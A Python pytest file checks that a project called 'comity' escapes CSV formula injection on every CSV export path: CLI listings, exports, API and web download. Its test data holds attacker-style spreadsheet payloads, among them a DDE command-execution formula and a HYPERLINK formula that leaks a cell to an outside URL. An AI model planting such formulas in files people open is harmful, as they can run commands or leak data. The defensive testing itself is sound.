"""No CSV comity writes lets a spreadsheet run a cell as a formula (OWASP's rule on CSV injection).

Every path that writes CSV is walked: the CLI's ``--csv`` listings (engagements, notes, plans),
``comity export ... --format csv``, the API's exports and the web's ``/engagements.csv``. Titles
are typed as an attacker would; a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return must come out with a ``'`` before it, still quoted so that the CSV parses back,
and numbers must stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from comity import services
from comity.access import Role, Viewer
from comity.analytics.settings import default_settings
from comity.cli import app
from comity.export import TableFormat, neutralise_cell, neutralise_table, write_table
from comity.services import accounts
from comity.services import culture as culture_service
from comity.services import plans as plan_service
from comity.store import Store
from tests.api_world import World, serve
from tests.web_client import PASSWORD, client_for

# Titles as an attacker types them: each starts a formula in Excel, LibreOffice or Sheets.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "@SUM(1)",
    '=HYPERLINK("http://example.org/?leak="&A1,"Click")',
    "-2+3",
]
PLANNER = Viewer(name="planner.usa", nation="USA", role=Role.PLANNER)


def _cells(text: str) -> list[dict[str, str]]:
    """The rows of a CSV as parsed back by Python's reader (what a spreadsheet sees, unquoted)."""
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_begins_like_a_formula_gets_a_quote_mark(start: str) -> None:
    assert neutralise_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    "value", ["Cobra Gold", "", " =1", "'=1", "2010-01", "REL NATO", None, -2, -0.5, 0, True]
)
def test_other_cells_and_every_number_are_left_as_they_are(value: Any) -> None:
    assert neutralise_cell(value) == value


def test_only_the_text_columns_of_a_table_change() -> None:
    table = pa.table(
        {
            "title": ["=1+1", "Balikatan", None, "\rB"],
            "index": [-0.5, 1.0, None, -3.25],
            "year": pa.array([2010, -5, 2012, 2013], type=pa.int32()),
            "kind": pa.array(["-x", "exercise", "-x", "@y"]).dictionary_encode(),
        }
    )
    done = neutralise_table(table)
    assert done.schema == table.schema
    assert done.to_pydict() == {
        "title": ["'=1+1", "Balikatan", None, "'\rB"],
        "index": [-0.5, 1.0, None, -3.25],
        "year": [2010, -5, 2012, 2013],
        "kind": ["'-x", "exercise", "'-x", "'@y"],
    }


def test_write_table_neutralises_csv_and_keeps_parquet_as_it_is(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    table = pa.table({"title": FORMULAS, "index": [-0.5] * len(FORMULAS)})
    write_table(table, TableFormat.CSV, tmp_path / "t.csv")
    rows = _cells((tmp_path / "t.csv").read_text(encoding="utf-8"))
    assert [r["title"] for r in rows] == [f"'{t}" for t in FORMULAS]
    assert {r["index"] for r in rows} == {"-0.5"}
    write_table(table, TableFormat.PARQUET, tmp_path / "t.parquet")
    assert pq.read_table(tmp_path / "t.parquet").to_pydict() == table.to_pydict()


def _engagement(title: str, **extra: Any) -> dict[str, Any]:
    return {
        "kind": "exercise",
        "title": title,
        "start": date(2015, 4, 20),
        "host": "PHL",
        "participants": [{"nation": "PHL", "role": "host"}, {"nation": "USA"}],
        **extra,
    }


@pytest.fixture
def attacked(store: Store) -> Store:
    """A store whose engagements, notes and plans carry formula-like titles, by a US planner."""
    accounts.create_user(
        store,
        Viewer.operator("tests"),
        username="planner.usa",
        password=PASSWORD,
        nation="USA",
        role="planner",
    )
    for title in FORMULAS:
        services.add_engagement(store, _engagement(title, programme="+Programme"), PLANNER)
        culture_service.add_note(
            store, {"nation": "PHL", "topic": "etiquette", "title": title, "body": "-body"}, PLANNER
        )
        plan_service.add_plan(
            store,
            {
                "title": title,
                "kind": "exercise",
                "objectives": ["=Objective"],
                "partners": [{"nation": "THA", "role": "host"}, {"nation": "USA"}],
                "start": "2027-02-22",
                "end": "2027-03-05",
                "location": "@Sattahip",
                "agencies": ["policy"],
            },
            PLANNER,
        )
    return store


@pytest.mark.parametrize(
    ("args", "columns"),
    [
        (["engagements", "list", "--csv"], {"title": FORMULAS, "programme": ["+Programme"] * 5}),
        (["notes", "list", "--csv"], {"title": FORMULAS, "body": ["-body"] * 5}),
        (["plans", "list", "--csv"], {"title": FORMULAS}),
    ],
    ids=["engagements", "notes", "plans"],
)
def test_cli_csv_listings_neutralise_every_formula(
    cli: CliRunner, attacked: Store, args: list[str], columns: dict[str, list[str]]
) -> None:
    result = cli.invoke(app, args)
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    for column, values in columns.items():
        assert sorted(r[column] for r in rows) == sorted(f"'{v}" for v in values), column
    # Ids are numbers and stay so.
    assert all(r["id"].isdigit() for r in rows)


def test_cli_csv_quotes_a_neutralised_cell_that_needs_it(cli: CliRunner, attacked: Store) -> None:
    result = cli.invoke(app, ["engagements", "list", "--csv"])
    assert '"\'=HYPERLINK(""http://example.org/?leak=""&A1,""Click"")"' in result.stdout


# Exports carry codes and numbers only today: a table holding attacker text stands in for a
# future column, to show that every export path writes through the same rule.
_CRAFTED = {
    "iso3_1": ["=1+1", "@A", "CAN"],
    "iso3_2": ["USA", "USA", "-x"],
    "year": [2010, 2010, 2011],
    "index": [-0.5, 12.25, -1.0],
    "note": ["+SUM(1)", "\tTAB", "plain"],
}
_NEUTRALISED = {"=1+1": "'=1+1", "@A": "'@A", "-x": "'-x", "+SUM(1)": "'+SUM(1)", "\tTAB": "'\tTAB"}


@pytest.fixture
def crafted_exports(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every export computes the crafted table instead of the index."""
    table = pa.table(_CRAFTED)
    monkeypatch.setattr(
        "comity.services.exports.compute_dyad_years", lambda *a, **k: SimpleNamespace(table=table)
    )
    monkeypatch.setattr(
        "comity.services.exports.compute_directed_dyad_years", lambda *a, **k: table
    )
    network = SimpleNamespace(
        index=SimpleNamespace(settings=default_settings()), nation_years=table
    )
    monkeypatch.setattr("comity.services.exports.compute_network", lambda *a, **k: network)


def _check_crafted(text: str) -> None:
    rows = _cells(text)
    assert len(rows) == 3
    for row in rows:
        for column in ("iso3_1", "iso3_2", "note"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
    written = {row["note"] for row in rows} | {row["iso3_1"] for row in rows}
    assert {"'+SUM(1)", "'\tTAB", "'=1+1", "'@A"} <= written
    assert sorted(float(row["index"]) for row in rows) == [-1.0, -0.5, 12.25]
    assert "-0.5" in text and "'-0.5" not in text


@pytest.mark.parametrize(
    "command",
    [["export", "dyad-years"], ["export", "directed-dyad-years"], ["export", "network"]],
    ids=lambda c: c[1],
)
def test_every_cli_export_neutralises_csv(
    cli: CliRunner, crafted_exports: None, tmp_path: Path, command: list[str]
) -> None:
    shown = cli.invoke(app, [*command, "--format", "csv"])
    assert shown.exit_code == 0, shown.output
    _check_crafted(shown.stdout)
    target = tmp_path / "out.csv"
    written = cli.invoke(app, [*command, "--format", "csv", "--output", str(target)])
    assert written.exit_code == 0, written.output
    _check_crafted(target.read_text(encoding="utf-8"))


@pytest.fixture
def world(store: Store) -> Iterator[World]:
    """The API over a fresh store."""
    with serve(store) as served:
        yield served


@pytest.mark.parametrize("url", ["/api/v1/exports/dyad-years", "/api/v1/exports/network"])
def test_every_api_csv_export_neutralises_formulas(
    world: World, crafted_exports: None, url: str
) -> None:
    answer = world.client.get(f"{url}?format=csv", headers=world.headers("analyst"))
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    _check_crafted(answer.text)


def test_every_module_answering_csv_is_walked_here() -> None:
    # A new module answering text/csv must write through comity.export and join the tests above.
    source = Path(__file__).resolve().parents[1] / "src" / "comity"
    answering = sorted(
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if "text/csv" in path.read_text(encoding="utf-8")
    )
    # openapi_errors only declares the exports' media types in the OpenAPI document; the
    # optimiser's page serves a fixed sample file, with no stored value in it.
    assert answering == [
        "api/openapi_errors.py",
        "api/routers/transfer.py",
        "web/pages/engagements.py",
        "web/pages/optimise.py",
    ]


def test_the_web_csv_download_neutralises_formulas(attacked: Store) -> None:
    answer = client_for(attacked, "planner.usa").get("/engagements.csv")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    rows = _cells(answer.text)
    assert sorted(r["title"] for r in rows) == sorted(f"'{t}" for t in FORMULAS)
    assert {r["programme"] for r in rows} == {"'+Programme"}
    assert all(r["id"].isdigit() and r["start"] == "2015-04-20" for r in rows)
